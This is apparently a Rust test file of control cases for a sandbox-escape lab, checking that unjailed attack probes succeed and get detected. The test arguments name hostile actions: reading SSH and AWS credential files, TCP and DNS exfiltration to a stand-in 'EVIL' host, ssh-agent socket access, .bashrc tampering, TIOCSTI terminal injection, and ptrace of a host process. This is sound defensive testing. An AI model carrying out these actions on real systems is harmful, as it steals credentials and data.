//! Controls: the same attacks WITHOUT the jail must succeed, and the lab
//! must notice them. This proves the probe and the post-conditions can see
//! an escape, so a green jailed run means something.
mod common;
use common::*;
use labspec::{DNS_V4, EVIL_V4};
use oajail_security::judge::postconditions;
use oajail_security::verdict::Verdict;

fn unjailed(lab: &Lab, args: &[&str], opts: &RunOptions) -> oajail_security::lab::Run {
    let run = lab.unjailed(args, opts);
    assert!(
        run.lab.lab_error.is_none(),
        "lab failed: {:?}",
        run.lab.lab_error
    );
    run
}

fn verdict(run: &oajail_security::lab::Run) -> Verdict {
    run.report
        .as_ref()
        .map(|r| r.verdict)
        .unwrap_or_else(|| panic!("no verdict: {}", run.stderr))
}

#[test]
fn control_secret_read_succeeds_without_jail() {
    let lab = Lab::new("control-read");
    let run = unjailed(
        &lab,
        &["read-file", &lab.home(".ssh/id_ed25519")],
        &RunOptions::default(),
    );
    assert_eq!(verdict(&run), Verdict::Succeeded, "{}", run.stdout);
    assert!(
        !run.stdout.contains("OAJ-CANARY"),
        "the probe must never print a canary"
    );
}

#[test]
fn control_copy_to_workspace_is_caught_by_postcondition() {
    let mut lab = Lab::new("control-copy");
    let run = unjailed(
        &lab,
        &["copy-to-ws", &lab.home(".aws/credentials"), &lab.ws("x")],
        &RunOptions::default(),
    );
    assert_eq!(verdict(&run), Verdict::Succeeded);
    let v = postconditions(&mut lab, &run, false);
    assert!(v.iter().any(|m| m.contains("workspace")), "{v:?}");
}

#[test]
fn control_tcp_exfil_reaches_sink() {
    let mut lab = Lab::new("control-tcp");
    let run = unjailed(
        &lab,
        &["tcp-connect", EVIL_V4, "443"],
        &RunOptions::default(),
    );
    assert_eq!(verdict(&run), Verdict::Succeeded);
    assert!(
        run.events
            .iter()
            .any(|e| e.sink == "tcp" && e.local.contains(EVIL_V4)),
        "{:?}",
        run.events
    );
    assert!(!postconditions(&mut lab, &run, false).is_empty());
}

#[test]
fn control_dns_query_is_logged() {
    let lab = Lab::new("control-dns");
    let name = format!("{}.exfil.test", lab.token);
    let run = unjailed(&lab, &["dns-query", DNS_V4, &name], &RunOptions::default());
    assert_eq!(verdict(&run), Verdict::Succeeded);
    assert!(
        run.events
            .iter()
            .any(|e| e.sink == "dns" && e.name.as_deref() == Some(name.as_str())),
        "{:?}",
        run.events
    );
}

#[test]
fn control_system_resolver_uses_lab_dns() {
    let lab = Lab::new("control-resolve");
    let run = unjailed(&lab, &["resolve", "allowed.test"], &RunOptions::default());
    assert_eq!(verdict(&run), Verdict::Succeeded, "{}", run.stdout);
}

#[test]
fn control_unix_socket_is_recorded() {
    let lab = Lab::new("control-unix");
    let run = unjailed(
        &lab,
        &["unix-connect", &lab.path("run/ssh-agent.sock")],
        &RunOptions::default(),
    );
    assert_eq!(verdict(&run), Verdict::Succeeded);
    assert!(
        run.events.iter().any(|e| e.sink == "unix:ssh-agent.sock"),
        "{:?}",
        run.events
    );
}

#[test]
fn control_abstract_socket_is_recorded() {
    let lab = Lab::new("control-abstract");
    let run = unjailed(
        &lab,
        &["abstract-connect", &lab.abstract_name],
        &RunOptions::default(),
    );
    assert_eq!(verdict(&run), Verdict::Succeeded);
    assert!(
        run.events.iter().any(|e| e.sink == "unix:abstract"),
        "{:?}",
        run.events
    );
}

#[test]
fn control_kill_of_host_canary_is_noticed() {
    let mut lab = Lab::new("control-kill");
    let pid = lab.canary_pid().to_string();
    let run = unjailed(&lab, &["kill", &pid], &RunOptions::default());
    assert_eq!(verdict(&run), Verdict::Succeeded);
    assert!(
        postconditions(&mut lab, &run, false)
            .iter()
            .any(|v| v.contains("canary process"))
    );
}

#[test]
fn control_dotfile_write_is_noticed() {
    let mut lab = Lab::new("control-dotfile");
    let run = unjailed(
        &lab,
        &["write-file", "append", &lab.home(".bashrc")],
        &RunOptions::default(),
    );
    assert_eq!(verdict(&run), Verdict::Succeeded);
    assert!(
        postconditions(&mut lab, &run, false)
            .iter()
            .any(|v| v.contains(".bashrc"))
    );
}

#[test]
fn control_int80_works_without_jail() {
    let lab = Lab::new("control-int80");
    let run = unjailed(&lab, &["int80-getpid"], &RunOptions::default());
    assert_eq!(verdict(&run), Verdict::Succeeded, "{}", run.stdout);
}

#[test]
fn control_io_uring_reaches_kernel_without_jail() {
    let lab = Lab::new("control-io-uring");
    let run = unjailed(&lab, &["io-uring-setup"], &RunOptions::default());
    assert!(
        matches!(verdict(&run), Verdict::Succeeded | Verdict::NotApplicable),
        "{}",
        run.stdout
    );
}

#[test]
fn control_tiocsti_injects_without_jail() {
    let mut lab = Lab::new("control-tiocsti");
    let opts = RunOptions {
        pty: true,
        ..RunOptions::default()
    };
    let run = unjailed(&lab, &["tiocsti"], &opts);
    assert_eq!(
        verdict(&run),
        Verdict::Succeeded,
        "{} {}",
        run.stdout,
        run.stderr
    );
    assert!(
        postconditions(&mut lab, &run, false)
            .iter()
            .any(|v| v.contains("terminal"))
    );
}

#[test]
fn control_leaked_fds_are_seen_without_jail() {
    let lab = Lab::new("control-fds");
    let opts = RunOptions {
        leak_fds: true,
        ..RunOptions::default()
    };
    let run = unjailed(&lab, &["fds-inherited"], &opts);
    assert_eq!(verdict(&run), Verdict::Succeeded, "{}", run.stdout);
}

#[test]
fn control_daemon_left_behind_is_noticed() {
    let lab = Lab::new("control-daemon");
    let marker = format!("oajail-daemon-{}", lab.token);
    let opts = RunOptions {
        daemon_marker: Some(marker.clone()),
        ..RunOptions::default()
    };
    let run = unjailed(&lab, &["daemonize", &marker], &opts);
    assert_eq!(verdict(&run), Verdict::Succeeded);
    assert_eq!(run.lab.leftover_daemons, 1);
}

#[test]
fn control_keyring_canary_is_readable_without_jail() {
    let lab = Lab::new("control-keyring");
    let desc = format!("oaj_canary_{}", lab.token);
    let opts = RunOptions {
        keyring_desc: Some(desc.clone()),
        ..RunOptions::default()
    };
    let run = unjailed(&lab, &["keyctl-read", &desc], &opts);
    assert_eq!(verdict(&run), Verdict::Succeeded, "{}", run.stdout);
}

#[test]
fn control_secret_env_is_visible_without_jail() {
    let lab = Lab::new("control-env");
    let run = unjailed(&lab, &["env-scan"], &RunOptions::default());
    assert_eq!(verdict(&run), Verdict::Succeeded);
}

#[test]
fn control_ptrace_of_host_canary_works_without_jail() {
    let lab = Lab::new("control-ptrace");
    let pid = lab.canary_pid().to_string();
    let run = unjailed(&lab, &["ptrace-attach", &pid], &RunOptions::default());
    // Yama ptrace_scope=1 forbids attaching to a non-descendant even without
    // a jail; the control then shows the kernel's own answer.
    assert!(
        matches!(verdict(&run), Verdict::Succeeded | Verdict::Blocked),
        "{}",
        run.stdout
    );
}
